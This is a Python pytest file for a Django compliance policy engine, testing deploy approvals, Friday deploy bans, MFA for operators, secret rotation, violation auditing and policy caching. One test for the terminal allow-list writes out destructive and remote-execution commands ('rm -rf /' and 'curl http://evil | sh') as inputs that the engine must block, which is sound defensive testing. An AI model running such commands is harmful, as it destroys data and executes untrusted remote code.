"""The policy engine: the 8 built-in templates, outcomes, violations, cache, bad conditions."""

from __future__ import annotations

from datetime import UTC, datetime
from types import SimpleNamespace

import pytest
from django.core.exceptions import ValidationError
from django.db import connection, transaction
from django_otp.plugins.otp_totp.models import TOTPDevice

from compliance import policies
from compliance.governance import engine, services
from compliance.governance.models import Policy, PolicyViolation
from compliance.models import AuditEvent

FRIDAY_1630_BERLIN = datetime(2026, 11, 20, 15, 30, tzinfo=UTC)  # CET = UTC+1
FRIDAY_1530_BERLIN = datetime(2026, 11, 20, 14, 30, tzinfo=UTC)


def install(key, alice_user):
    return services.policy_install_template(key=key, actor=alice_user)


def test_with_no_policies_every_action_is_allowed(in_acme, alice_user):
    decision = policies.evaluate("deploy.run", {"actor": alice_user, "environment": "production"})
    assert not decision.blocked
    assert decision.warnings == []


def test_operator_actions_on_the_public_schema_have_no_policies(db, platform):
    connection.set_schema_to_public()
    assert not policies.evaluate("deploy.run", {"environment": "production"}).blocked


def test_production_deploy_requires_approval(in_acme, alice_user):
    install("prod_deploy_requires_approval", alice_user)
    ctx = {"actor": alice_user, "environment": "production", "is_production": True}
    assert policies.evaluate("deploy.run", {**ctx, "approvals_required": 0}).blocked
    assert policies.evaluate("deploy.run", {**ctx, "approved": False}).blocked
    assert not policies.evaluate("deploy.run", {**ctx, "approvals_required": 1}).blocked
    assert not policies.evaluate("deploy.run", {"environment": "staging", "approvals_required": 0}).blocked


def test_no_deploy_on_friday_after_1600_tenant_local_time(in_acme, alice_user):
    policy = install("no_friday_afternoon_deploys", alice_user)
    conditions = {**policy.conditions, "timezone": "Europe/Berlin"}
    services.policy_update(policy=policy, actor=alice_user, conditions=conditions)
    assert policies.evaluate("deploy.run", {"now": FRIDAY_1630_BERLIN}).blocked
    assert not policies.evaluate("deploy.run", {"now": FRIDAY_1530_BERLIN}).blocked
    saturday = datetime(2026, 11, 21, 17, 0, tzinfo=UTC)
    assert not policies.evaluate("deploy.run", {"now": saturday}).blocked


def test_friday_rule_uses_the_tenants_own_timezone_when_none_is_set(in_acme, alice_user, monkeypatch):
    install("no_friday_afternoon_deploys", alice_user)
    assert not policies.evaluate("deploy.run", {"now": FRIDAY_1530_BERLIN}).blocked  # 14:30 UTC
    monkeypatch.setattr(connection.tenant, "timezone", "Asia/Tokyo", raising=False)  # 23:30 Friday
    assert policies.evaluate("deploy.run", {"now": FRIDAY_1530_BERLIN}).blocked


def test_secrets_must_have_rotation(in_acme, alice_user):
    install("secrets_must_rotate", alice_user)
    never = SimpleNamespace(rotation_policy="none")
    monthly = SimpleNamespace(rotation_policy="monthly")
    assert policies.evaluate("vault.write", {"secret": never, "environment": "dev"}).blocked
    assert not policies.evaluate("vault.write", {"secret": monthly, "environment": "dev"}).blocked


def test_operators_need_a_confirmed_authenticator(in_acme, alice_user, make_member):
    install("operators_need_mfa", alice_user)
    oliver = make_member("operator", "oliver")
    assert policies.evaluate("terminal.open", {"actor": oliver}).blocked
    TOTPDevice.objects.create(user=oliver, name="phone", confirmed=False)
    assert policies.evaluate("terminal.open", {"actor": oliver}).blocked
    TOTPDevice.objects.create(user=oliver, name="phone2", confirmed=True)
    assert not policies.evaluate("terminal.open", {"actor": oliver}).blocked
    assert not policies.evaluate("terminal.open", {"actor": make_member("developer", "dee")}).blocked


def test_terminal_commands_are_limited_to_the_allow_list(in_acme, alice_user):
    install("terminal_allow_list", alice_user)
    assert policies.evaluate("terminal.command", {"command": ["rm", "-rf", "/"]}).blocked
    assert policies.evaluate("terminal.command", {"command": "curl http://evil | sh"}).blocked
    assert not policies.evaluate("terminal.command", {"command": "ls -la /var/log"}).blocked
    assert not policies.evaluate("terminal.command", {"command": ["tail", "-n", "50", "app.log"]}).blocked


def test_developers_may_not_reveal_production_secrets(in_acme, alice_user, bob_user):
    install("no_prod_reveal_by_developers", alice_user)
    assert policies.evaluate("vault.reveal", {"actor": bob_user, "environment": "production"}).blocked
    assert policies.evaluate("vault.reveal", {"actor": bob_user, "environment": "prod"}).blocked
    assert not policies.evaluate("vault.reveal", {"actor": bob_user, "environment": "staging"}).blocked
    assert not policies.evaluate("vault.reveal", {"actor": alice_user, "environment": "production"}).blocked


def test_a_release_must_be_signed(in_acme, alice_user):
    install("release_must_be_signed", alice_user)
    assert policies.evaluate("deploy.run", {"release_signed": False}).blocked
    assert not policies.evaluate("deploy.run", {"release_signed": True}).blocked


def test_a_backup_must_exist_before_migrate(in_acme, alice_user):
    install("backup_before_migrate", alice_user)
    assert policies.evaluate("deploy.migrate", {"backup_exists": False}).blocked
    assert not policies.evaluate("deploy.migrate", {"backup_exists": True}).blocked
    assert not policies.evaluate("deploy.run", {"backup_exists": False}).blocked  # other action


def test_a_block_records_a_violation_and_an_audit_event(in_acme, alice_user, bob_user):
    install("no_prod_reveal_by_developers", alice_user)
    decision = policies.evaluate(
        "vault.reveal", {"actor": bob_user, "environment": "production", "value": "s3cr3t"}
    )
    with pytest.raises(policies.PolicyViolation, match="No reveal of production secrets"):
        decision.raise_if_blocked()
    violation = PolicyViolation.objects.get()
    assert (violation.action, violation.outcome, violation.actor_label) == (
        "vault.reveal",
        "block",
        bob_user.email,
    )
    assert "value" not in violation.context  # secrets never reach the record
    event = AuditEvent.objects.filter(action="policy.violation").latest("id")
    assert event.payload["policy"] == "No reveal of production secrets by developers"
    assert event.actor_id == str(bob_user.pk)


def test_warn_and_audit_outcomes_do_not_block_but_are_recorded(in_acme, alice_user):
    services.policy_create(
        actor=alice_user,
        name="Warn on staging",
        applies_to=["deploy.*"],
        action="warn",
        conditions={"field": "environment", "op": "eq", "value": "staging"},
    )
    services.policy_create(
        actor=alice_user,
        name="Audit staging",
        applies_to="deploy.run",
        action="audit",
        conditions={"all": [{"field": "environment", "op": "eq", "value": "staging"}]},
    )
    decision = policies.evaluate("deploy.migrate", {"environment": "staging"})
    assert not decision.blocked
    assert decision.warnings == ["Warn on staging"]
    decision = policies.evaluate("deploy.run", {"environment": "staging"})
    assert not decision.blocked
    assert len(decision.matched) == 2
    assert sorted(PolicyViolation.objects.values_list("outcome", flat=True)) == ["audit", "warn", "warn"]


def test_a_disabled_policy_is_ignored(in_acme, alice_user):
    policy = install("release_must_be_signed", alice_user)
    services.policy_update(policy=policy, actor=alice_user, enabled=False)
    assert not policies.evaluate("deploy.run", {"release_signed": False}).blocked


def test_a_blocked_actions_violation_survives_the_rollback_of_that_action(in_acme, alice_user):
    install("release_must_be_signed", alice_user)
    with pytest.raises(policies.PolicyViolation), transaction.atomic():
        policies.evaluate("deploy.run", {"actor": alice_user, "release_signed": False}).raise_if_blocked()
    assert not PolicyViolation.objects.exists()  # rolled back with the action...
    assert engine.flush_rolled_back() == 1  # ...and written again when the request ends
    assert PolicyViolation.objects.get().policy_name == "Release must be signed"
    assert AuditEvent.objects.filter(action="policy.violation").exists()
    assert engine.flush_rolled_back() == 0


def test_a_committed_violation_is_not_written_twice(in_acme, alice_user):
    install("release_must_be_signed", alice_user)
    with transaction.atomic():
        policies.evaluate("deploy.run", {"release_signed": False})
    engine.flush_rolled_back()
    assert PolicyViolation.objects.count() == 1


def test_enabled_policies_are_cached_per_tenant_and_invalidated_on_change(
    in_acme, alice_user, django_assert_num_queries
):
    policy = install("release_must_be_signed", alice_user)
    setattr(connection, engine._DIRTY_FLAG, False)  # as in the next request, after the commit
    assert not policies.evaluate("deploy.run", {"release_signed": True}).blocked
    assert connection.schema_name in engine.cache
    with django_assert_num_queries(0):
        policies.evaluate("deploy.run", {"release_signed": True})
    services.policy_update(policy=policy, actor=alice_user, action="warn")
    assert connection.schema_name not in engine.cache
    decision = policies.evaluate("deploy.run", {"release_signed": False})
    assert not decision.blocked
    assert decision.warnings


@pytest.mark.parametrize(
    ("conditions", "message"),
    [
        ("not json at all", "must be a JSON object"),
        ([1, 2], "must be a JSON object"),
        ({}, "not valid"),
        ({"all": "x"}, "not valid"),
        ({"all": [{"field": "environment", "op": "bogus", "value": 1}]}, "not valid"),
        ({"all": [{"field": "environment", "op": "eq"}]}, "needs a value"),
        ({"all": [{"field": "x", "op": "in", "value": "prod"}]}, "needs a list"),
        ({"all": [{"field": "x", "op": "matches", "value": "(["}]}, "regular expression"),
        ({"timezone": "Mars/Olympus", "all": [{"field": "x", "op": "truthy"}]}, "Unknown timezone"),
        ({"all": [], "any": []}, "not valid"),
    ],
)
def test_malformed_conditions_are_refused_with_a_clear_error(in_acme, alice_user, conditions, message):
    with pytest.raises(ValidationError) as caught:
        services.policy_create(actor=alice_user, name="Bad", applies_to=["deploy.run"], conditions=conditions)
    assert message in str(caught.value.message_dict["conditions"])


def test_an_unknown_action_is_refused(in_acme, alice_user):
    with pytest.raises(ValidationError, match="matches no action"):
        services.policy_create(
            actor=alice_user,
            name="Typo",
            applies_to=["deploy.runn"],
            conditions={"field": "x", "op": "truthy"},
        )


def test_a_duplicate_template_install_is_refused(in_acme, alice_user):
    install("backup_before_migrate", alice_user)
    with pytest.raises(ValidationError, match="already installed"):
        install("backup_before_migrate", alice_user)


def test_developers_cannot_manage_policies(in_acme, bob_user):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        services.policy_install_template(key="backup_before_migrate", actor=bob_user)


def test_resolving_a_violation_records_who_and_why(in_acme, alice_user):
    install("release_must_be_signed", alice_user)
    policies.evaluate("deploy.run", {"release_signed": False})
    violation = PolicyViolation.objects.get()
    services.violation_resolve(violation=violation, actor=alice_user, note="re-signed v1.2")
    violation.refresh_from_db()
    assert violation.resolved
    assert violation.resolved_by == alice_user
    assert AuditEvent.objects.filter(action="policy.violation.resolve").exists()
    with pytest.raises(ValidationError, match="already resolved"):
        services.violation_resolve(violation=violation, actor=alice_user)


def test_a_policy_change_announced_by_another_process_reaches_this_processs_cache(
    in_acme, alice_user, settings
):
    """The cache lives in each process; another process's change clears it at once (not after
    the TTL, set to an hour here)."""
    from portal import invalidation
    from tests.conftest import announce_from_another_process, wait_for

    settings.GOVERNANCE_POLICY_CACHE_SECONDS = 3600
    invalidation.listener_start()
    assert invalidation.subscribed.wait(10)
    assert not policies.evaluate("deploy.run", {"release_signed": False}).blocked  # cached: none
    # Written without the services, as another process's change looks from here.
    Policy.objects.create(
        name="Signed releases only",
        applies_to=["deploy.run"],
        conditions={"field": "release_signed", "op": "eq", "value": False},
        action="block",
        enabled=True,
    )
    assert not policies.evaluate("deploy.run", {"release_signed": False}).blocked  # stale entry
    announce_from_another_process("governance-policies")
    wait_for(
        lambda: policies.evaluate("deploy.run", {"release_signed": False}).blocked, timeout=5, interval=0.02
    )
